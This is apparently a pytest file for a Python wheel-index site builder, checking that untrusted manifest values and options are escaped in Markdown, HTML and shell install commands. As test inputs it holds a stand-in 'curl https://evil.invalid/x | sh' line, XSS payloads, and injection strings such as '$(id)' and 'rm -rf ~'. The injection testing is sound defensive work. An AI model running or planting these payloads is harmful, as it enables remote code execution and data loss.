"""What the index writes from untrusted values (hostile input, round 3): manifest values in the Markdown release
notes render as the text they hold, option values that a shell or a page would read specially are refused, the
copy-paste commands quote what they carry, CUDA versions are ASCII digits, and no page claims an attestation
that nothing verified."""

from __future__ import annotations

import re

import pytest

from g4build.errors import UsageError
from g4build.index.entry import WheelEntry, build_of
from g4build.index.pages import SiteOptions, cu_tag, install_command, markdown_text, render_site
from g4build.index.site import check_options

FAKE_FENCE = "x\n```\ncurl https://evil.invalid/x | sh\n```\n"
RAW_HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


def _entry(**manifest: object) -> WheelEntry:
    build = build_of({"pin": {"name": "vllm-0.21.0", "torch": "2.11.0", "cuda": "13.0"}, "series": [],
                      "route": "build", **manifest})
    return WheelEntry(filename="vllm-0.21.0+cu130.g4.ab-cp38-abi3-manylinux_2_24_x86_64.whl", project="vllm",
                      version="0.21.0+cu130.g4.ab", sha256="ab" * 32, size=10, metadata=b"Metadata-Version: 2.1\n",
                      requires_python=">=3.10", build=build)


def _notes(entry: WheelEntry, options: SiteOptions | None = None) -> str:
    return render_site([entry], options or SiteOptions())["install.md"].decode()


def test_manifest_values_in_the_release_notes_stay_text() -> None:
    entry = _entry(pin={"name": RAW_HTML, "torch": FAKE_FENCE, "cuda": "13.0"},
                   series=[{"name": "[link](https://evil.invalid)", "version": 1}])
    notes = _notes(entry)
    assert "<img" not in notes and "<script" not in notes
    assert "&lt;script&gt;" in notes
    # the only fences are the notes' own: two per command block, and one block for the verify commands
    fences = [n for n, line in enumerate(notes.splitlines()) if line.startswith("```")]
    assert len(fences) == 2 * 1 + 2  # a manylinux wheel gets the Linux / WSL command alone
    assert not any(line.startswith("curl") for line in notes.splitlines())
    assert "](https" not in notes  # the link syntax is escaped: \[link\]\(https...
    (needs,) = [line for line in notes.splitlines() if line.startswith("- pin ")]
    assert "torch x \\`\\`\\` curl https\\:\\/\\/evil" in needs  # one line, its backticks escaped


def test_markdown_text_escapes_what_markdown_reads() -> None:
    assert markdown_text("a*b_c`d") == "a\\*b\\_c\\`d"
    assert markdown_text("<b>&x") == "&lt;b&gt;&amp;x"
    assert markdown_text("one\ntwo\r\u2028three") == "one two  three"


@pytest.mark.parametrize("cuda", ["\u0661\u0663.\u0660", "1\u06f3.0", "\uff11\uff13.0", "13.0\n", "13", "13.0.1"])
def test_cuda_versions_are_ascii_major_minor(cuda: str) -> None:
    assert cu_tag(cuda) is None
    entry = _entry(target={"cuda": cuda})
    for windows in (False, True):
        command = install_command(entry, SiteOptions(torch_index="https://t.invalid/whl/{cu}"), windows=windows)
        assert command.isascii() and "t.invalid" not in command, command


def test_cuda_tag_of_a_plain_version() -> None:
    assert cu_tag("13.0") == "cu130" and cu_tag("12.9") == "cu129"


BAD_URLS = ["https://x.invalid/\n", "https://x.invalid/a\nrm -rf ~", "https://x.invalid/$(id)", "https://x.invalid/`id`",
            "https://x.invalid/;id", "https://x.invalid/a|id", "https://x.invalid/a&b", "https://x.invalid/'a'",
            'https://x.invalid/"a"', "https://x.invalid/a b", "https://x.invalid/\t", "ftp://x.invalid/",
            "javascript:alert(1)", "https://x.invalid/a?b=c", "https://x.invalid/#frag", "https://\u0445.invalid/",
            "https://x.invalid/<b>"]


@pytest.mark.parametrize("url", BAD_URLS)
@pytest.mark.parametrize("option", ["base_url", "files_url", "torch_index"])
def test_urls_with_shell_or_markup_characters_are_refused(url: str, option: str) -> None:
    value = url + ("{cu}" if option == "torch_index" else "")
    with pytest.raises(UsageError, match=f"--{option.replace('_', '-')} "):
        check_options(SiteOptions(**{option: value}))


@pytest.mark.parametrize("repo", ["owner/repo\n", "owner/repo;id", "owner/$(id)", "own er/repo", "owner/repo/x",
                                  "owner/..", "owner/`id`", "-owner/repo", "owner/re'po"])
def test_repos_other_than_owner_slash_name_are_refused(repo: str) -> None:
    with pytest.raises(UsageError, match="--repo "):
        check_options(SiteOptions(repo=repo))


def test_plain_values_pass_and_are_quoted_where_a_shell_would_read_them() -> None:
    options = SiteOptions(base_url="https://h.invalid/~me/g4", repo="octo-org/g4build.x",
                          files_url="https://h.invalid/r/download/v1", torch_index="https://t.invalid/whl/{cu}")
    check_options(options)
    entry = _entry()
    bash = install_command(entry, options)
    assert "--extra-index-url 'https://h.invalid/~me/g4/simple/'" in bash  # ~ is special to bash
    assert "--extra-index-url https://t.invalid/whl/cu130" in bash
    windows = install_command(entry, options, windows=True)
    assert "--extra-index-url 'https://h.invalid/~me/g4/simple/'" in windows


def test_no_page_claims_an_attestation_nothing_verified() -> None:
    site = render_site([_entry()], SiteOptions(repo="owner/repo"))
    for path in ("install.md", "wheels/vllm-0.21.0+cu130.g4.ab-cp38-abi3-manylinux_2_24_x86_64.whl.html"):
        text = site[path].decode()
        assert not re.search(r"carries a build provenance attestation|attests every wheel", text), path
        assert "did not verify a provenance attestation" in text, path
        assert "gh attestation verify vllm-0.21.0+cu130.g4.ab-cp38-abi3-manylinux_2_24_x86_64.whl --repo owner/repo" \
            in text, path
